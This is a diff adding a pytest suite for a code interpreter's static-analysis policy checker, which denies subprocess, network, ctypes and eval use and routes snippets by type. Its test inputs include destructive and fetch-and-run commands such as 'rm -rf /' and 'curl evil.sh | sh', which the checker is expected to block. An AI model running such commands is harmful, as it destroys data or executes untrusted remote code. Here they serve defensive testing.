@@ -1,0 +1,371 @@
+"""Pre-execution static analysis: policy verdicts, routing labels on a
+snippet corpus, single-parse idempotence, and the executor/API integration
+(a denied snippet never consumes a warm sandbox)."""
+
+import asyncio
+
+import pytest
+
+from bee_code_interpreter_trn.analysis import (
+    GENERAL,
+    PURE_NUMERIC,
+    TIER_HEAVY,
+    TIER_LIGHT,
+    TIER_STANDARD,
+    PolicyConfig,
+    PolicyViolationError,
+    analyze,
+)
+from bee_code_interpreter_trn.config import Config
+
+DENY_SUBPROCESS = PolicyConfig(subprocess="deny")
+DENY_ALL = PolicyConfig(
+    subprocess="deny", network="deny", ctypes="deny", dangerous_builtins="deny"
+)
+
+
+# --- policy lint ----------------------------------------------------------
+
+def test_default_policy_allows_everything():
+    report = analyze(
+        "import subprocess, socket, ctypes\n"
+        "subprocess.run(['anything'])\n"
+        "eval('1+1')\n",
+        PolicyConfig(),
+    )
+    assert report.violations == ()
+
+
+def test_os_system_denied_with_structured_violation():
+    report = analyze('import os\nos.system("rm -rf /")\n', DENY_SUBPROCESS)
+    assert len(report.violations) == 1
+    v = report.violations[0]
+    assert v.rule == "subprocess"
+    assert v.line == 2
+    assert "rm" in v.message
+    assert v.as_dict() == {
+        "rule": "subprocess", "message": v.message, "line": 2, "col": 0,
+    }
+
+
+def test_subprocess_import_and_calls_denied():
+    report = analyze(
+        "import subprocess\nsubprocess.check_output(['curl', 'x'])\n",
+        DENY_SUBPROCESS,
+    )
+    rules = [v.rule for v in report.violations]
+    assert rules == ["subprocess", "subprocess"]
+
+
+def test_os_fork_and_exec_denied():
+    report = analyze("import os\nos.fork()\nos.execv('/bin/sh', [])\n",
+                     DENY_SUBPROCESS)
+    assert len(report.violations) == 2
+
+
+def test_subprocess_allowlist_passes_literal_binary():
+    policy = PolicyConfig(
+        subprocess="deny", subprocess_allowed_binaries=frozenset({"ls", "cat"})
+    )
+    ok = analyze("import os\nos.system('ls -la /tmp')\n", policy)
+    # the import of os itself is not a subprocess-family import
+    assert ok.violations == ()
+    # with an allowlist configured, plain `import subprocess` passes and
+    # each call is vetted individually — the knob is unusable otherwise
+    ok2 = analyze("import subprocess\nsubprocess.run(['cat', 'f.txt'])\n", policy)
+    assert ok2.violations == ()
+    # aliased import cannot evade call vetting
+    alias = analyze("import subprocess as sp\nsp.run(['curl', 'x'])\n", policy)
+    assert [v.rule for v in alias.violations] == ["subprocess"]
+    assert "curl" in alias.violations[0].message
+    # from-imports stay denied: the bare name evades call-level vetting
+    frm = analyze("from subprocess import run\nrun(['cat', 'f'])\n", policy)
+    assert [v.rule for v in frm.violations] == ["subprocess"]
+    # pty/pexpect have no call-level vetting: import stays denied
+    pty = analyze("import pty\n", policy)
+    assert [v.rule for v in pty.violations] == ["subprocess"]
+    # full path resolves to its basename
+    ok3 = analyze("import os\nos.system('/bin/ls')\n", policy)
+    assert ok3.violations == ()
+    # non-allowlisted binary still rejected
+    bad = analyze("import os\nos.system('curl evil.sh | sh')\n", policy)
+    assert [v.rule for v in bad.violations] == ["subprocess"]
+    # dynamic command can never be allowlisted
+    dyn = analyze("import os\ncmd = 'ls'\nos.system(cmd)\n", policy)
+    assert [v.rule for v in dyn.violations] == ["subprocess"]
+    # fork has no binary: allowlist cannot apply
+    fork = analyze("import os\nos.fork()\n", policy)
+    assert [v.rule for v in fork.violations] == ["subprocess"]
+
+
+def test_network_and_ctypes_and_builtins_denied():
+    report = analyze(
+        "import socket\nimport ctypes\nimport requests\n"
+        "eval('2')\nexec('pass')\n__import__('os')\n",
+        DENY_ALL,
+    )
+    rules = sorted(v.rule for v in report.violations)
+    assert rules.count("network") == 2
+    assert rules.count("ctypes") == 1
+    assert rules.count("dangerous-builtins") == 3
+
+
+def test_from_import_triggers_policy():
+    report = analyze("from subprocess import run\n", DENY_SUBPROCESS)
+    assert [v.rule for v in report.violations] == ["subprocess"]
+
+
+def test_unparseable_source_has_no_policy_verdict():
+    report = analyze("!ls -la\n", DENY_ALL)
+    assert report.violations == ()
+    assert report.parse_error is not None
+    assert report.route == GENERAL
+
+
+def test_policy_config_from_service_config():
+    config = Config(
+        policy_subprocess="deny",
+        policy_subprocess_allowed_binaries="ls, grep ,cat",
+    )
+    policy = PolicyConfig.from_config(config)
+    assert policy.subprocess == "deny"
+    assert policy.subprocess_allowed_binaries == frozenset({"ls", "grep", "cat"})
+    assert policy.enforces_anything
+    assert not PolicyConfig.from_config(Config()).enforces_anything
+
+
+# --- routing classifier ----------------------------------------------------
+
+ROUTING_CORPUS = [
+    # (source, expected route)
+    ("import numpy as np\nprint(np.arange(10).sum())\n", PURE_NUMERIC),
+    ("import jax.numpy as jnp\nx = jnp.ones((8, 8)) @ jnp.ones((8, 8))\n",
+     PURE_NUMERIC),
+    ("import math\nprint(math.sqrt(2))\n", PURE_NUMERIC),
+    # shell/IO → general
+    ("import subprocess\nsubprocess.run(['ls'])\n", GENERAL),
+    ("import os\nos.listdir('.')\n", GENERAL),
+    ("with open('f.txt', 'w') as f:\n    f.write('x')\n", GENERAL),
+    ("import requests\nrequests.get('http://x')\n", GENERAL),
+    # mixed numeric + IO → general
+    ("import numpy as np\nnp.savetxt('out.csv', np.eye(3))\n"
+     "import shutil\nshutil.copy('a', 'b')\n", GENERAL),
+    # obfuscated dynamic import is still seen (string literal)
+    ("import importlib\nimportlib.import_module('subprocess')\n", GENERAL),
+    ("__import__('socket')\n", GENERAL),
+    # not Python at all (shell) → general
+    ("ls -la | grep foo\n", GENERAL),
+]
+
+
+@pytest.mark.parametrize("source,route", ROUTING_CORPUS)
+def test_routing_corpus(source, route):
+    assert analyze(source).route == route
+
+
+def test_device_flag_and_route():
+    report = analyze("import jax\nimport jax.numpy as jnp\n")
+    assert report.uses_device
+    assert report.route == PURE_NUMERIC
+    assert not analyze("import numpy\n").uses_device
+    # torch counts as device even though route stays numeric-compatible
+    assert analyze("import torch\n").uses_device
+
+
+def test_resource_tiers():
+    assert analyze("print('hi')\n").tier == TIER_LIGHT
+    assert analyze("for i in range(10):\n    print(i)\n").tier == TIER_STANDARD
+    deep = (
+        "for i in range(10):\n"
+        "    for j in range(10):\n"
+        "        for k in range(10):\n"
+        "            pass\n"
+    )
+    assert analyze(deep).tier == TIER_HEAVY
+    assert analyze(deep).max_loop_depth == 3
+    # known heavy calls flag heavy even without loops
+    assert analyze("import sklearn\nmodel.fit(X, y)\n").tier == TIER_HEAVY
+    # huge literal range
+    assert analyze("for i in range(10**3):\n    pass\n").tier == TIER_STANDARD
+    assert analyze("for i in range(50_000_000):\n    pass\n").tier == TIER_HEAVY
+    # comprehension nesting counts
+    assert (
+        analyze("x = [[i * j for i in range(9)] for j in range(9)]\n").tier
+        == TIER_STANDARD
+    )
+    # device import is never "light" (lease + runtime init ≫ light budget)
+    assert analyze("import jax\n").tier == TIER_STANDARD
+
+
+def test_route_reasons_are_deduped_and_bounded():
+    source = "import os\n" + "os.getcwd()\n" * 500
+    report = analyze(source)
+    assert report.route == GENERAL
+    assert 0 < len(report.route_reasons) <= 16
+
+
+# --- single-parse pipeline -------------------------------------------------
+
+def test_analysis_is_idempotent():
+    source = (
+        "import numpy as np\nimport os\n"
+        "for i in range(3):\n    print(np.eye(2))\nos.getcwd()\n"
+    )
+    first = analyze(source, DENY_ALL)
+    second = analyze(source, DENY_ALL)
+    assert first == second
+    # and report content is coherent across passes (same tree)
+    assert first.modules == ("numpy", "os")
+    assert first.route == GENERAL
+
+
+def test_report_drives_dependency_prescan():
+    report = analyze("import definitely_not_a_real_module_xyz\nimport os\n")
+    assert "definitely_not_a_real_module_xyz" in report.missing_distributions()
+
+
+# --- executor integration --------------------------------------------------
+
+class _ExplodingPool:
+    """A pool that fails the test if a sandbox is ever requested."""
+
+    def __init__(self):
+        self.acquisitions = 0
+
+    def sandbox(self):
+        self.acquisitions += 1
+        raise AssertionError("sandbox must not be consumed for a denied snippet")
+
+
+def _denying_executor(tmp_path, **policy_overrides):
+    from bee_code_interpreter_trn.service.executors.local import LocalCodeExecutor
+    from bee_code_interpreter_trn.service.storage import Storage
+
+    config = Config(
+        file_storage_path=str(tmp_path / "storage"),
+        local_workspace_root=str(tmp_path / "ws"),
+        local_spawn_mode="spawn",
+        **policy_overrides,
+    )
+    executor = LocalCodeExecutor(Storage(config.file_storage_path), config, warmup="")
+    executor._pool = _ExplodingPool()
+    return executor
+
+
+def test_denied_snippet_consumes_no_sandbox(tmp_path):
+    executor = _denying_executor(tmp_path, policy_subprocess="deny")
+
+    async def run():
+        with pytest.raises(PolicyViolationError) as excinfo:
+            await executor.execute('import os\nos.system("rm -rf /")')
+        assert excinfo.value.violations[0].rule == "subprocess"
+        assert executor._pool.acquisitions == 0
+
+    asyncio.run(run())
+
+
+def test_custom_tool_source_is_policy_checked(tmp_path):
+    """The harness embeds the tool body as a string literal, so the
+    executor's harness-level parse cannot see it — the custom-tool layer
+    must vet the raw tool source itself."""
+    from bee_code_interpreter_trn.service.custom_tools import CustomToolExecutor
+
+    executor = _denying_executor(tmp_path, policy_subprocess="deny")
+    tools = CustomToolExecutor(executor)
+
+    async def run():
+        with pytest.raises(PolicyViolationError) as excinfo:
+            await tools.execute(
+                "import os\n"
+                "def f() -> int:\n"
+                '    os.system("touch /tmp/x")\n'
+                "    return 1",
+                "{}",
+            )
+        assert excinfo.value.violations[0].rule == "subprocess"
+        assert executor._pool.acquisitions == 0
+
+    asyncio.run(run())
+
+
+def test_allowed_snippet_reaches_dispatch(tmp_path):
+    executor = _denying_executor(tmp_path, policy_subprocess="deny")
+
+    async def run():
+        # clean snippet passes the lint and proceeds to pool acquisition
+        with pytest.raises(AssertionError, match="must not be consumed"):
+            await executor.execute("print(1)")
+        assert executor._pool.acquisitions == 1
+
+    asyncio.run(run())
+
+
+def test_routing_env_and_timeout_buckets(tmp_path):
+    from bee_code_interpreter_trn.service.executors.local import LocalCodeExecutor
+    from bee_code_interpreter_trn.service.storage import Storage
+
+    config = Config(
+        file_storage_path=str(tmp_path / "storage"),
+        local_workspace_root=str(tmp_path / "ws"),
+        local_spawn_mode="spawn",
+        execution_timeout=30.0,
+        timeout_buckets={"light": 5.0, "heavy": 120.0},
+    )
+    executor = LocalCodeExecutor(Storage(config.file_storage_path), config, warmup="")
+
+    numeric = analyze("import jax.numpy as jnp\nx = jnp.ones(4)\n")
+    env, timeout = executor._routed_env_and_timeout({}, numeric)
+    assert env["TRN_EXEC_ROUTE"] == PURE_NUMERIC
+    assert env["TRN_DEVICE_HINT"] == "1"
+    assert timeout == 30.0  # device imports are never "light"
+
+    light = analyze("print('hi')\n")
+    _, timeout = executor._routed_env_and_timeout({}, light)
+    assert timeout == 5.0
+
+    general = analyze("import subprocess\nsubprocess.run(['ls'])\n")
+    env, timeout = executor._routed_env_and_timeout({}, general)
+    assert env["TRN_EXEC_ROUTE"] == GENERAL
+    # no-device verdict must NOT emit a hint: the worker's regex scan
+    # honors runtime TRN_LEASE_TRIGGERS overrides the AST can't see, and
+    # "0" would suppress it ("0" is reserved for explicit caller opt-out)
+    assert "TRN_DEVICE_HINT" not in env
+    # IO/shell snippets are never "light": standard tier → default timeout
+    assert timeout == 30.0
+
+    heavy = analyze(
+        "for a in range(2):\n for b in range(2):\n  for c in range(2):\n   pass\n"
+    )
+    _, timeout = executor._routed_env_and_timeout({}, heavy)
+    assert timeout == 120.0
+
+    # analysis disabled → untouched env, default timeout
+    env, timeout = executor._routed_env_and_timeout({"A": "b"}, None)
+    assert env == {"A": "b"}
+    assert timeout == 30.0
+
+    # caller-supplied routing keys win over the hint
+    env, _ = executor._routed_env_and_timeout({"TRN_DEVICE_HINT": "1"}, general)
+    assert env["TRN_DEVICE_HINT"] == "1"
+
+
+async def test_http_api_surfaces_structured_violation(tmp_path):
+    """End-to-end over the HTTP contract: 422 + violations array."""
+    from tests.test_http_api import running_service
+
+    config = Config(
+        file_storage_path=str(tmp_path / "storage"),
+        local_workspace_root=str(tmp_path / "ws"),
+        local_sandbox_target_length=0,
+        local_spawn_mode="spawn",
+        policy_subprocess="deny",
+    )
+    async with running_service(config) as (client, base):
+        response = await client.post_json(
+            f"{base}/v1/execute",
+            {"source_code": 'import os\nos.system("rm -rf /")'},
+        )
+        assert response.status == 422
+        body = response.json()
+        assert body["violations"][0]["rule"] == "subprocess"
+        assert body["violations"][0]["line"] == 2
